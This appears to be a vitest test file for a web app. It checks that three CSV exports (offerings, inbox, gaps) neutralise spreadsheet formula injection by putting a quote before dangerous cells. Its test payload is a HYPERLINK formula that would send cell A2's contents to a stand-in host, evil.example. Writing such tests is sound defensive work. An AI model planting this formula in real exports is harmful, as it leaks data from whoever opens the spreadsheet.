// Every CSV export neutralises cells that a spreadsheet would run as a formula (CSV injection):
// the catalogue's /api/offerings.csv, the inbox export and the gaps export.
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { GET as getOfferingsCsv } from '@/app/api/offerings.csv/route';
import { createPrismaClient, type Db } from '@/lib/db/client';
import { validateOfferingRecords, writeOfferings } from '@/lib/catalogue/import-offerings';
import { gapsCsv } from '@/lib/gaps/gaps-csv';
import { measureGaps } from '@/lib/gaps/measure-gaps';
import { getTranslator } from '@/lib/i18n/translate';
import { inboxCsv } from '@/lib/inbox/inbox-csv';
import { parseInboxFilters } from '@/lib/inbox/inbox-filters';
import { listInboxItems } from '@/lib/inbox/list-inbox-items';
import { createTestContactMessage, createTestMember } from '@/tests/support/inbox-factory';
import { offeringRecord } from '@/tests/support/offering-factory';
import { createMigratedDatabase, dropDatabase } from '@/tests/support/test-database';

const FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")';
let prisma: Db;
let databaseUrl: string;
const originalUrl = process.env.DATABASE_URL;

beforeAll(async () => {
  databaseUrl = await createMigratedDatabase(inject('adminUrl'), { seed: 'reference' });
  prisma = createPrismaClient(databaseUrl);
  process.env.DATABASE_URL = databaseUrl;
});

afterAll(async () => {
  process.env.DATABASE_URL = originalUrl;
  await prisma.$disconnect();
  await dropDatabase(inject('adminUrl'), databaseUrl);
});

/** The data cells of a CSV, without the BOM and the header row. */
function lines(csv: string): string[] {
  return csv.replace(/^\uFEFF/, '').trim().split('\n').slice(1);
}

describe('CSV exports', () => {
  it('GET /api/offerings.csv puts a quote before a title or provider that starts a formula', async () => {
    const { records, issues } = validateOfferingRecords([
      offeringRecord({ slug: 'formule-in-titel', title: `${FORMULA} leernetwerk`, provider: '@SUM(1+1)', summary: '-2+3 professionals leren samen in de wijk.' }),
    ]);
    expect(issues).toEqual([]);
    await writeOfferings(prisma, records, { existing: 'update', actorLabel: 'cli' });
    const response = await getOfferingsCsv(new Request('http://test.local/api/offerings.csv'));
    expect(response.status).toBe(200);
    const row = lines(await response.text()).find((line) => line.startsWith('formule-in-titel'))!;
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A2,""Klik"") leernetwerk"`);
    expect(row).toContain(`,'@SUM(1+1),`);
    expect(row).toContain(`,'-2+3 professionals`);
    expect(row).not.toMatch(/,"?=HYPERLINK/);
  });

  it('the inbox export puts a quote before a subject or name that starts a formula', async () => {
    const member = await createTestMember(prisma);
    const message = await createTestContactMessage(prisma, { subject: `${FORMULA} vraag` });
    await prisma.contactMessage.update({ where: { id: message.id }, data: { name: '+31 6 12345678' } });
    const { items } = await listInboxItems(prisma, parseInboxFilters({ type: 'contact' }), member.id, { limit: 'all' });
    const csv = inboxCsv(items, await getTranslator('nl', 'admin'));
    const row = lines(csv).find((line) => line.includes(message.id))!;
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A2,""Klik"") vraag"`);
    expect(row).toContain(`,'+31 6 12345678,`);
  });

  it('the gaps export goes through the same writer', async () => {
    const csv = gapsCsv(await measureGaps(prisma));
    expect(csv.startsWith('\uFEFFtheme,gap_theme,scale,')).toBe(true);
    expect(lines(csv).every((line) => !/^[=+\-@]/.test(line))).toBe(true);
  });
});
